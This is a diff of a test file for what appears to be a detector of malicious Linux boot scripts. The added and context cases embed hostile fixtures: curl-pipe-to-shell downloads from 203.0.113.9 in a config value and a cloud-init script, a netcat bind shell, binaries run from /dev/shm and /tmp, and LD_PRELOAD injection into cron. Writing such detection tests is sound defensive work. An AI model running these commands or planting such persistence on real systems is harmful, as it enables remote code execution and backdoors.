@@ -24,6 +24,9 @@ describe('boot scripts', () => {
 	});
 
 	test.each<[string, Machine, string[]]>([
+		['settings that are a command when they are read', { '/etc/default/networking': 'CONFIGURE_INTERFACES="$(curl -fsS http://203.0.113.9/n | sh)"\n' }, ['high /etc/default/networking']],
+		['a script of cloud-init', { '/var/lib/cloud/scripts/per-boot/10-net.sh': { mode: 0o755, content: '#!/bin/sh\ncurl -s http://203.0.113.9/k | sh\n' } }, ['high /var/lib/cloud/scripts/per-boot/10-net.sh']],
+		['a script that makes its program in shared memory', { '/etc/local.d/x.start': { mode: 0o755, content: '#!/bin/sh\ncp /opt/a.bin /dev/shm/.agent && chmod +x /dev/shm/.agent\n/dev/shm/.agent &\n' } }, ['medium /etc/local.d/x.start']],
 		['rc.local that starts something in /tmp', { '/etc/rc.local': { mode: 0o755, content: '#!/bin/sh\n/tmp/.font/x &\n' }, '/tmp/.font/x': { mode: 0o755 } }, ['high /etc/rc.local']],
 		['rc.local that hands out a shell, not executable today', { '/etc/rc.local': '#!/bin/sh\nnc -l -p 31337 -e /bin/sh\n' }, ['high /etc/rc.local']],
 		['a line more in a packaged script', { '/etc/init.d/cron': { mode: 0o755, content: '#!/bin/sh\nLD_PRELOAD=/dev/shm/x.so /usr/sbin/cron\n' } }, ['high /etc/init.d/cron']],
